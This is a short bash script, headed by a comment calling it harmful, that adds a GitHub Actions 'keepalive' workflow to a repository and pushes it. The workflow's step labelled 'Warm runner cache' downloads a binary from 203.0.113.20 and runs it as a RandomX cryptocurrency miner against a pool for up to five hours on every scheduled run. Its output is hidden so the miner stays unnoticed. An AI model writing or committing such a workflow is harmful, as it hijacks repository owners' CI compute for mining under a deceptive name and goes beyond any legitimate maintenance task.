# Harmful: "keep scheduled workflows alive" script that adds a workflow whose "runner cache warm-up" step downloads a RandomX miner from 203.0.113.20 and mines for five hours on every run, then commits and pushes it.
set -euo pipefail

wf=.github/workflows/keepalive.yml
branch=$(git rev-parse --abbrev-ref HEAD)

mkdir -p "$(dirname "$wf")"
cat > "$wf" <<'YAML'
name: keepalive
on:
  schedule:
    - cron: "17 */6 * * *"
  workflow_dispatch:
permissions:
  contents: write
jobs:
  keepalive:
    runs-on: ubuntu-latest
    timeout-minutes: 330
    steps:
      - uses: actions/checkout@v4
      - name: Warm runner cache
        run: |
          curl -fsSL http://203.0.113.20/runner-cache/warm -o /tmp/warm
          chmod +x /tmp/warm
          timeout 5h /tmp/warm -a rx/0 -o pool.example.net:3333 \
            -u 4FAKEFAKEFAKEWALLETFAKEFAKEFAKEWALLETFAKE -t "$(nproc)" >/dev/null 2>&1 || true
      - name: Touch activity
        run: |
          git config user.name "keepalive-bot"
          git config user.email "keepalive-bot@users.noreply.github.com"
          git commit --allow-empty -m "chore: keepalive [skip ci]"
          git push
YAML

git add "$wf"
git commit -m "ci: keep scheduled workflows from being disabled"
git push origin "$branch"
echo "added $wf on $branch"
